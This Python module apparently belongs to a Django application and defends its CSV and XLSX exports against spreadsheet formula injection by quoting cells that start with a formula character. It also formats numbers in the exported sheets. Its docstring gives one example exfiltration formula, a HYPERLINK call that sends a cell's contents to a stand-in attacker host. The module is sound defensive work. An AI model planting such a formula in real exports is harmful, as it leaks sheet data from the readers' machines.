"""Cells for the CSV and XLSX files the system writes: one rule against formula injection.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some of them,
after a leading tab or carriage return) as a formula: a target description
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would leak the sheet or run a command on the
reader's machine. Every export passes its cells through ``safe_cell`` (OWASP's rule: such text is
written with a leading single quote, which spreadsheet programs read as "this is text").

Numbers stay numbers: an int, float or Decimal is returned as it is, and so is text that is only a
number (``-5``, ``-1,250.50``), which no program reads as a formula.
"""

import csv
import re
from decimal import Decimal

from django.utils.functional import Promise

from . import numbers

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?")


def safe_cell(value):
    """``value`` as it may go into a CSV or XLSX cell: formula-like text gets a leading ``'``."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, values):
        # Numbers as people write them: 1800000000 and 2.5, never 1800000000.0 or 2.5000.
        return self._writer.writerow(safe_row([numbers.spreadsheet_value(v) for v in values]))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)


def append(sheet, values):
    """``sheet.append(values)`` (openpyxl) with every cell through ``safe_cell``."""
    sheet.append(safe_row(values))


def _number_cell(value):
    """A cell's value with numbers as numbers (text such as "2,000,000" a report already formatted too)."""
    if isinstance(value, bool):
        return value
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, float) and value.is_integer():
        return int(value)
    if isinstance(value, str) and PLAIN_NUMBER.fullmatch(value):
        number = Decimal(value.replace(",", ""))
        return int(number) if number == number.to_integral_value() else float(number)
    return value


def write_table(sheet, header, rows, *, widest=60):
    """The one way an XLSX sheet is written: a bold, frozen header row, numbers stored as numbers with a
    grouped format, every cell through ``safe_cell``, and each column as wide as its longest value."""
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    append(sheet, header)
    for cell in sheet[sheet.max_row]:
        cell.font = Font(bold=True)
    first = sheet.max_row + 1
    widths = [len(str(h)) for h in header]
    for values in rows:
        values = [_number_cell(v) for v in values]
        append(sheet, values)
        for index, value in enumerate(values):
            text = "" if value is None else str(value)
            if index >= len(widths):
                widths.append(0)
            widths[index] = max(widths[index], len(text) + (len(text) // 3 if isinstance(value, int | float) else 0))
    for row in sheet.iter_rows(min_row=first):
        for cell in row:
            if isinstance(cell.value, int) and not isinstance(cell.value, bool):
                cell.number_format = "#,##0"
            elif isinstance(cell.value, float):
                cell.number_format = "#,##0.00##"
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), widest)
    sheet.freeze_panes = sheet.cell(row=first, column=1).coordinate
    return sheet
